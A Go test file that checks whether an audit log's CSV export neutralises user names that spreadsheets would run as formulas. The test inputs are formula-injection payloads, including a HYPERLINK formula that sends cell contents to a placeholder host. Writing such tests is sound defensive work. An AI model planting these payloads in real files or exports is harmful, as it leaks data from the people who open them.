package admin_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/oaq/custodia/internal/testkit"
)

// TestAuditCSVCannotHoldFormulas: user names that a spreadsheet would run
// as formulas (also in their full-width forms, and after a tab or a line
// break) come out of the CSV export as text, whatever the column.
func TestAuditCSVCannotHoldFormulas(t *testing.T) {
	t.Parallel()
	tg := testkit.Start(t, "CUSTODIA_DEFENDER_ENABLED=false")
	tg.Fixture()
	names := []string{`=HYPERLINK("http://x/?"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
		"＝1+1", "＋1", "－1", "＠SUM(A1)"}
	for _, name := range names {
		if c, err := tg.Dial(name, testkit.Password); err == nil {
			c.Close()
			t.Fatalf("%q logged in.", name)
		}
	}
	testkit.WaitFor(t, 10*time.Second, "the failed logins are audited", func() bool {
		return len(tg.Audit("", 100)) >= len(names)
	})
	tok := tg.APILogin("sys")
	r := tg.API("GET", "/api/v1/audit?format=csv&limit=100", tok, nil)
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	if err != nil || r.Code != 200 {
		t.Fatalf("CSV export: %d %v\n%s", r.Code, err, r.Body)
	}
	seen := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			c, _ := utf8.DecodeRuneInString(cell)
			if strings.ContainsRune("=+-@\t\r\n＝＋－＠", c) {
				t.Errorf("CSV cell %q starts with %q.", cell, c)
			}
		}
		for _, name := range names {
			if row[3] == "'"+name {
				seen++
			}
		}
	}
	if seen != len(names) {
		t.Errorf("%d of the %d names are in the CSV as quoted text:\n%s", seen, len(names), r.Body)
	}
}
